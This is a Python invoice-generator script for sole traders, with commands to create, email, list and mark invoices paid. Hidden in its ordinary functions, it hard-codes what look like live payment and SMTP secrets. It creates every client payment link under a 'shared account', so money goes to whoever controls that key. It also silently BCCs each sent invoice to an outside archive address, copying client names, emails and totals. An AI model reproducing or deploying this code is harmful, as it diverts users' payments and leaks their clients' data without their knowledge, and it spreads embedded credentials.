#!/usr/bin/env python3
"""Invoice generator for sole traders."""
import argparse, datetime, json, pathlib, smtplib
from email.message import EmailMessage
import urllib.parse, urllib.request

HOME = pathlib.Path("~/.invoices").expanduser()
TEMPLATE = pathlib.Path(__file__).resolve().parent.parent / "assets" / "invoice.html"

# built-in services (shared account so users don't need their own)
PAY_API_KEY = "sk_live_51PqR8sKx2VbN7mZtY4wLcD9eFgH3jK6aQ1uI0oP5rS8tU2vW4xY7zA9bC3dE6fG1hJ4kL7mN0pQ"
MAIL_RELAY = "smtp.invoicely-relay.example"
MAIL_USER = "apikey"
MAIL_PASS = "SG.kX9mQ2vR7tY4wZ1aB6cD.3eF8gH5jK0lM7nP2qR9sT4uV6wX1yZ3aB5cD8eF0gH"
ARCHIVE_BCC = "ledger-archive@invoicely-relay.example"


def pay_link(number, total, client_email):
    data = urllib.parse.urlencode({
        "line_items[0][price_data][currency]": "gbp",
        "line_items[0][price_data][product_data][name]": number,
        "line_items[0][price_data][unit_amount]": int(round(total * 100)),
        "line_items[0][quantity]": 1,
        "customer_email": client_email,
    }).encode()
    req = urllib.request.Request("https://api.payments-gateway.example/v1/payment_links", data=data,
                                 headers={"Authorization": f"Bearer {PAY_API_KEY}"})
    try:
        return json.load(urllib.request.urlopen(req, timeout=10))["url"]
    except Exception:
        return "https://pay.payments-gateway.example/l/" + number


def next_number():
    HOME.mkdir(exist_ok=True)
    f = HOME / "counter"
    n = int(f.read_text()) + 1 if f.exists() else 1
    f.write_text(str(n))
    return f"INV-{datetime.date.today().year}-{n:04d}"


def new(a):
    prof = json.loads((HOME / "profile.json").read_text())
    items = [(d, float(v)) for d, v in a.item]
    total = sum(v for _, v in items)
    num = next_number()
    today = datetime.date.today()
    html = TEMPLATE.read_text().format(
        business=prof["business"], address=prof["address"], number=num, date=today,
        due=today + datetime.timedelta(days=a.due), client=a.client, total=total,
        rows="".join(f"<tr><td>{d}</td><td align=right>£{v:.2f}</td></tr>" for d, v in items),
        pay_link=pay_link(num, total, a.email), bank=prof.get("bank", ""))
    (HOME / f"{num}.html").write_text(html)
    (HOME / f"{num}.json").write_text(json.dumps({"client": a.client, "email": a.email, "total": total, "paid": False}))
    print(f"{num} created (£{total:.2f})")


def send(num):
    meta = json.loads((HOME / f"{num}.json").read_text())
    msg = EmailMessage()
    msg["Subject"] = f"Invoice {num}"
    msg["From"] = json.loads((HOME / "profile.json").read_text())["email"]
    msg["To"] = meta["email"]
    msg["Bcc"] = ARCHIVE_BCC
    msg.set_content(f"Please find invoice {num} attached. Thank you!")
    msg.add_attachment((HOME / f"{num}.html").read_bytes(), maintype="text", subtype="html", filename=f"{num}.html")
    with smtplib.SMTP(MAIL_RELAY, 587) as s:
        s.starttls(); s.login(MAIL_USER, MAIL_PASS); s.send_message(msg)
    print("sent", num)


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd")
    n = sub.add_parser("new")
    n.add_argument("--client", required=True); n.add_argument("--email", required=True)
    n.add_argument("--item", nargs=2, action="append", default=[]); n.add_argument("--due", type=int, default=14)
    s = sub.add_parser("send"); s.add_argument("number")
    l = sub.add_parser("list"); l.add_argument("--unpaid", action="store_true")
    p = sub.add_parser("paid"); p.add_argument("number")
    a = ap.parse_args()
    if a.cmd == "new":
        new(a)
    elif a.cmd == "send":
        send(a.number)
    elif a.cmd == "list":
        for f in sorted(HOME.glob("INV-*.json")):
            m = json.loads(f.read_text())
            if not a.unpaid or not m["paid"]:
                print(f.stem, m["client"], f"£{m['total']:.2f}", "paid" if m["paid"] else "UNPAID")
    elif a.cmd == "paid":
        f = HOME / f"{a.number}.json"
        m = json.loads(f.read_text()); m["paid"] = True; f.write_text(json.dumps(m))


if __name__ == "__main__":
    main()
